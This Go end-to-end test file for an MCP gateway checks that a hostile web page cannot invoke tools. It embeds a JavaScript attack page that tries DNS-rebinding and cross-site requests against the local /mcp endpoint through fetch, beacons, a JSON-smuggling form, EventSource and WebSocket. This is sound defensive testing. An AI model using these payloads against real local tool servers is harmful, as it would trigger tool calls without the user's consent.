package e2e

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"weir/upstream/upstreamtest"
)

// needChromium finds the browser; see needNode.
func needChromium(t testing.TB) string {
	t.Helper()
	path, err := exec.LookPath("chromium")
	switch {
	case err == nil:
		return path
	case os.Getenv("CI") == "true":
		t.Fatal("chromium is not there; install it with: .ci/install")
	default:
		t.Skip("chromium is not there; install it with: .ci/install")
	}
	return ""
}

// attackPage does from a foreign page, in every way that a page has, what would call a tool: as the page of a name that now leads to the
// gateway (the page's own origin), and across sites. %[1]d is the port.
const attackPage = `<!doctype html><title>attack</title><iframe name=sink></iframe><script>
const call = JSON.stringify({jsonrpc: "2.0", id: 1, method: "tools/call", params: {name: "echo", arguments: {say: "owned"}, _meta: {
  "io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": {}}}});
const modern = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream", "MCP-Protocol-Version": "2026-07-28",
  "Mcp-Method": "tools/call", "Mcp-Name": "echo"};
const plain = {"Content-Type": "text/plain"};
const legacy = JSON.stringify({jsonrpc: "2.0", id: 1, method: "tools/call", params: {name: "echo", arguments: {say: "owned"}}});
const init = JSON.stringify({jsonrpc: "2.0", id: 0, method: "initialize", params: {protocolVersion: "2025-11-25", capabilities: {}, clientInfo: {name: "x", version: "1"}}});
const tried = [];
async function attempt(name, f) {
  try { const r = await f(); tried.push(name + ": " + (r && r.status !== undefined ? r.status + " " + r.type : "sent")); } catch (e) { tried.push(name + ": " + e.name); }
}
(async () => {
  for (const base of ["", "http://127.0.0.1:%[1]d", "http://localhost:%[1]d"]) {
    const at = base + "/mcp", where = base || "rebound";
    for (const credentials of ["include", "omit"]) {
      await attempt(where + " json", () => fetch(at, {method: "POST", headers: modern, body: call, credentials}));
      await attempt(where + " json no-cors", () => fetch(at, {method: "POST", headers: modern, body: call, mode: "no-cors", credentials}));
      await attempt(where + " text", () => fetch(at, {method: "POST", headers: plain, body: call, mode: "no-cors", credentials}));
      await attempt(where + " bare legacy", () => fetch(at, {method: "POST", headers: plain, body: legacy, mode: "no-cors", credentials}));
      await attempt(where + " blob without type", () => fetch(at, {method: "POST", body: new Blob([call]), mode: "no-cors", credentials}));
      await attempt(where + " session", async () => {
        const r = await fetch(at, {method: "POST", headers: {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}, body: init, credentials});
        return fetch(at, {method: "POST", headers: {"Content-Type": "application/json", "Accept": "application/json, text/event-stream",
          "Mcp-Session-Id": r.headers.get("Mcp-Session-Id") || "", "MCP-Protocol-Version": "2025-11-25"}, body: legacy, credentials});
      });
      await attempt(where + " delete", () => fetch(at, {method: "DELETE", credentials}));
    }
    await attempt(where + " beacon", () => navigator.sendBeacon(at, new Blob([call], {type: "text/plain"})));
    await attempt(where + " form", () => {
      const f = document.createElement("form"); f.action = at; f.method = "post"; f.enctype = "text/plain"; f.target = "sink";
      const i = document.createElement("input"); i.name = call.slice(0, -1) + ',"x":"'; i.value = '"}'; f.append(i); document.body.append(f); f.submit();
    });
    await attempt(where + " stream", () => new Promise(done => { const s = new EventSource(at); s.onerror = s.onopen = () => { s.close(); done(); }; }));
    await attempt(where + " socket", () => new Promise(done => { const s = new WebSocket((base || location.origin).replace("http", "ws") + "/mcp"); s.onerror = s.onclose = () => done(); }));
  }
  await new Promise(done => setTimeout(done, 300));
  await fetch("/report", {method: "POST", body: tried.join("\n")});
})();
</script>`

// evilSite stands at one port, as the attacker's server and as the gateway: the page comes from before the name was rebound, everything else
// goes to weir as it came.
func evilSite(t *testing.T, gateway string) (port int, report <-chan string) {
	t.Helper()
	target, err := url.Parse(gateway)
	must(t, err)
	reported := make(chan string, 1)
	proxy := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.Out.URL.Scheme, r.Out.URL.Host, r.Out.Host = "http", target.Host, r.In.Host
	}}
	front := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/evil.html":
			_, p, _ := net.SplitHostPort(r.Host)
			var n int
			_, _ = fmt.Sscan(p, &n)
			w.Header().Set("Content-Type", "text/html")
			_, _ = fmt.Fprintf(w, attackPage, n)
		case "/report":
			b, _ := io.ReadAll(r.Body)
			select {
			case reported <- string(b):
			default:
			}
		default:
			proxy.ServeHTTP(w, r)
		}
	}))
	front.Start()
	t.Cleanup(front.Close)
	addr, _ := front.Listener.Addr().(*net.TCPAddr)
	return addr.Port, reported
}

// browse opens the page as evil.example, a name that leads to this machine, and returns what it tried.
func browse(t *testing.T, chromium string, port int, report <-chan string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
		"--user-data-dir="+t.TempDir(), "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost",
		fmt.Sprintf("http://evil.example:%d/evil.html", port))
	var said output
	cmd.Stdout, cmd.Stderr, cmd.WaitDelay = &said, &said, 5*time.Second
	must(t, cmd.Start())
	defer func() {
		cancel()
		_ = cmd.Wait()
	}()
	select {
	case tried := <-report:
		return tried
	case <-ctx.Done():
		t.Fatalf("the page did not end; chromium says:\n%s", tail(said.String(), 4<<10))
		return ""
	}
}

// TestBrowserAttacks: a page of a name that was rebound, and a page of another site, execute nothing in a real browser, with and without
// sign-in. The last row shows that the page would: there the operator lets every host in.
func TestBrowserAttacks(t *testing.T) {
	chromium := needChromium(t)
	for _, tt := range []struct {
		name     string
		config   object
		executes bool
	}{
		{"no sign-in", object{}, false},
		{"API keys", object{"auth": object{"apiKeys": []object{{"hash": strings.Repeat("ab", 32), "owner": "ci"}}}}, false},
		{"every host is allowed", object{"allowedHosts": []string{"*"}}, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			up := upstreamtest.New(t, upstreamtest.Config{})
			tt.config["mcpServers"] = object{"up": object{"url": up.URL, "required": true}}
			tt.config["naming"] = "bare"
			g := serve(t, tt.config)
			port, report := evilSite(t, g.url)
			tried := browse(t, chromium, port, report)
			calls := len(up.Ledger().Calls("tools/call"))
			if n := strings.Count(tried, "\n") + 1; n < 50 {
				t.Errorf("the page tried %d ways only", n)
			}
			if tt.executes != (calls > 0) {
				t.Errorf("%d tool calls reached the upstream; the page tried:\n%s", calls, tried)
			}
			t.Logf("%d calls; tried:\n%s", calls, tried)
		})
	}
}
